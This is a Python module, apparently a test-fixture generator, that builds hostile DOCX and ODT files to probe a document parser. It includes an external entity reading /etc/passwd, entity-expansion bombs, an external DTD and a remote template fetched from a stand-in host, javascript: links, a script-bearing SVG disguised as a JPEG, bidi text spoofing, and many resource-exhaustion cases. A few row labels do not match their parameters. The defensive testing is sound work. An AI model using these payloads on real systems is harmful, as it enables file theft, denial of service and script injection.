"""DOCX and ODT whose XML means harm, or is only enormous."""

import struct
import zlib

from .parts import DECLARATION, R, W, docx, document, odt, paragraph

WORDS = paragraph("Words that a family should read.")


def nested(before, inside, after, depth):
    return before * depth + inside + after * depth


def entities(kind):
    if kind == "laughs":
        lines = ['<!ENTITY a0 "ha">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]
        return "<!DOCTYPE w [" + "".join(lines) + "]>", "&a11;"
    if kind == "quadratic":
        return f'<!DOCTYPE w [<!ENTITY a "{"a" * 80000}">]>', "&a;" * 25000
    if kind == "file":
        return '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"
    return '<!DOCTYPE w SYSTEM "http://192.0.2.1/evil.dtd">', "words"


def with_entities(kind):
    prologue, text = entities(kind)
    return docx("", raw=document(paragraph(text), prologue))


def styles(*all_styles):
    return {"word/styles.xml": f'{DECLARATION}<w:styles xmlns:w="{W}">{"".join(all_styles)}</w:styles>'}


def relationship(kind, target, name="r9", mode=""):
    return f'<Relationship Id="{name}" Type="{R}/{kind}" Target="{target}"{mode}/>'


STYLES = relationship("styles", "styles.xml", "s1")


def style_circle():
    circle = [f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 50}"/></w:style>' for n in range(50)]
    return docx('<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>Words.</w:t></w:r></w:p>', styles(*circle), STYLES)


def style_chain(length):
    chain = [f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(length)]
    return docx('<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>Words.</w:t></w:r></w:p>' * 300, styles(*chain), STYLES)


def footnotes(count, loop):
    def note(n):
        inner = f'<w:r><w:footnoteReference w:id="{n}"/></w:r>' if loop else "<w:r><w:t>Note.</w:t></w:r>"
        return f'<w:footnote w:id="{n}"><w:p>{inner}</w:p></w:footnote>'
    parts = {"word/footnotes.xml": f'{DECLARATION}<w:footnotes xmlns:w="{W}">{"".join(note(n) for n in range(1, count + 1))}</w:footnotes>'}
    marks = "".join(f'<w:r><w:t>word</w:t></w:r><w:r><w:footnoteReference w:id="{n}"/></w:r>' for n in range(1, count + 1))
    return docx(f"<w:p>{marks}</w:p>", parts, relationship("footnotes", "footnotes.xml"))


def numbering():
    levels = "".join(f'<w:lvl w:ilvl="{n}"><w:start w:val="2147483647"/><w:numFmt w:val="lowerRoman"/>'
                     f'<w:lvlText w:val="{"%1" * 2000}"/></w:lvl>' for n in range(9))
    parts = {"word/numbering.xml": f'{DECLARATION}<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0">{levels}'
                                   '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'}
    item = ('<w:p><w:pPr><w:numPr><w:ilvl w:val="{}"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>Item</w:t></w:r></w:p>')
    return docx("".join(item.format(level) for level in (0, 8, 99999999, -1) * 500), parts, relationship("numbering", "numbering.xml"))


def png(width, height, rows=b""):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def picture(data, name="x.png", copies=1):
    drawing = ('<w:p><w:r><w:drawing><wp:inline><wp:extent cx="2147483647" cy="99999999999999"/><wp:docPr id="1" name="p" '
               'descr="A drawing"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
               '<pic:pic><pic:blipFill><a:blip r:embed="r9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
               "</w:drawing></w:r></w:p>")
    return docx(WORDS + drawing * copies, {f"word/media/{name}": data}, relationship("image", f"media/{name}"))


def wide_table(columns, rows):
    cell = "<w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>"
    return docx("<w:tbl>" + ("<w:tr>" + cell * columns + "</w:tr>") * rows + "</w:tbl>")


def spans():
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="{}"/><w:vMerge w:val="restart"/></w:tcPr><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>'
    return docx("<w:tbl>" + "".join(f"<w:tr>{cell.format(n)}</w:tr>" for n in (2147483647, -5, 99999999999999999999, 0)) + "</w:tbl>")


TABLE = ("<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>")
CONTROL = ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>")

ROWS = [(f"docx {name}", "docx", make) for name, make in [
    ("entity that reads a file", lambda: with_entities("file")),
    ("entities that laugh", lambda: with_entities("laughs")),
    ("entities in a square", lambda: with_entities("quadratic")),
    ("DTD from outside", lambda: with_entities("external")),
    ("100,000 elements deep", lambda: docx(nested("<w:sdt>", "", "</w:sdt>", 100000))),
    ("190 tables in each other", lambda: docx(nested(TABLE[0], WORDS, TABLE[1], 80))),
    ("20,000 tables in each other", lambda: docx(nested(TABLE[0], WORDS, TABLE[1], 20000))),
    ("5,000 content controls in each other", lambda: docx(nested(CONTROL[0], WORDS, CONTROL[1], 5000))),
    ("bytes that are no UTF-8", lambda: docx("", raw=document(paragraph("X")).encode().replace(b">X<", b">\xff\xfe\x80<"))),
    ("20,000 attributes on one element", lambda: docx("<w:p " + " ".join(f'a{n}="1"' for n in range(20000)) + "/>")),
    ("200,000 attributes on one element", lambda: docx("<w:p " + " ".join(f'a{n}="1"' for n in range(200000)) + "/>")),
    ("300,000 empty paragraphs", lambda: docx("<w:p/>" * 300000 + WORDS)),
    ("60,000 paragraphs", lambda: docx(paragraph("The school will review this.") * 60000)),
    ("200,000 runs in a paragraph", lambda: docx("<w:p>" + "<w:r><w:t>ab </w:t></w:r>" * 200000 + "</w:p>")),
    ("one word of five million letters", lambda: docx(paragraph("a" * 5000000))),
    ("five million spaces", lambda: docx('<w:p><w:r><w:t xml:space="preserve">a' + " " * 5000000 + "b</w:t></w:r></w:p>")),
    ("100,000 fields never closed", lambda: docx("<w:p>" + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 100000 + "</w:p>" + WORDS)),
    ("fields that end before they begin", lambda: docx("<w:p>" + '<w:r><w:fldChar w:fldCharType="end"/></w:r>' * 50000 + "</w:p>" + WORDS)),
    ("30,000 links", lambda: docx("<w:p>" + '<w:hyperlink r:id="r9"><w:r><w:t>here </w:t></w:r></w:hyperlink>' * 30000 + "</w:p>",
                                  relationships=relationship("hyperlink", "https://school.example/", mode=' TargetMode="External"'))),
    ("links that run programs", lambda: docx('<w:p><w:hyperlink r:id="r9"><w:r><w:t>Click</w:t></w:r></w:hyperlink></w:p>',
                                             relationships=relationship("hyperlink", "javascript:alert(1)", mode=' TargetMode="External"'))),
    ("20,000 footnotes", lambda: footnotes(20000, False)),
    ("footnotes that name themselves", lambda: footnotes(300, True)),
    ("numbers without end", numbering),
    ("styles in a circle", style_circle),
    ("100,000 styles in a chain", lambda: style_chain(100000)),
    ("2,000 columns", lambda: wide_table(2000, 5)),
    ("40,000 rows", lambda: wide_table(3, 40000)),
    ("spans of two thousand million", spans),
    ("picture of 2,500 million points", lambda: picture(png(50000, 50000))),
    ("picture that is cut off", lambda: picture(png(100, 100)[:60])),
    ("picture of 4,000 by 4,000", lambda: picture(png(4000, 4000, bytes(4000 * 12001)))),
    ("one picture 5,000 times", lambda: picture(png(10, 10, bytes(10 * 31)), copies=5000)),
    ("picture that is no picture", lambda: picture(b"<svg onload='alert(1)'/>", "x.jpeg")),
    ("relationships to the network", lambda: docx(WORDS, relationships=relationship("attachedTemplate", "http://192.0.2.1/x.dotm", mode=' TargetMode="External"') +
                                                  relationship("image", "http://192.0.2.1/x.png", "r8", ' TargetMode="External"'))),
    ("signs that turn words round", lambda: docx(paragraph("Pay \u202e05.11£\u202c now \u2066x"))),
]]
ROWS += [(f"odt {name}", "odt", make) for name, make in [
    ("column repeated 2,000 million times", lambda: odt('<table:table><table:table-column table:number-columns-repeated="2000000000"/><table:table-row>'
                                                        '<table:table-cell table:number-columns-repeated="2000000000"><text:p>a</text:p></table:table-cell></table:table-row></table:table>')),
    ("row repeated 2,000 million times", lambda: odt('<table:table><table:table-row table:number-rows-repeated="2000000000"><table:table-cell><text:p>a</text:p>'
                                                     "</table:table-cell></table:table-row></table:table>")),
    ("2,000 million spaces", lambda: odt('<text:p>a<text:s text:c="2000000000"/>b</text:p>')),
    ("20,000 lists in each other", lambda: odt(nested("<text:list><text:list-item>", "<text:p>a</text:p>", "</text:list-item></text:list>", 20000))),
    ("150 lists in each other", lambda: odt(nested("<text:list><text:list-item>", "<text:p>a</text:p>", "</text:list-item></text:list>", 110))),
    ("10,000 sections in each other", lambda: odt(nested("<text:section>", "<text:p>a</text:p>", "</text:section>", 10000))),
    ("styles in a circle", lambda: odt('<text:p text:style-name="a">Words.</text:p>', '<style:style style:name="a" style:family="paragraph" style:parent-style-name="b"/>'
                                       '<style:style style:name="b" style:family="paragraph" style:parent-style-name="a"/>')),
    ("60,000 paragraphs", lambda: odt("<text:p>The school will review this.</text:p>" * 60000)),
    ("picture from the network", lambda: odt('<text:p>Words.<draw:frame><draw:image xlink:href="http://192.0.2.1/x.png"/></draw:frame></text:p>')),
    ("links that run programs", lambda: odt('<text:p><text:a xlink:href="javascript:alert(1)">Click</text:a></text:p>')),
]]
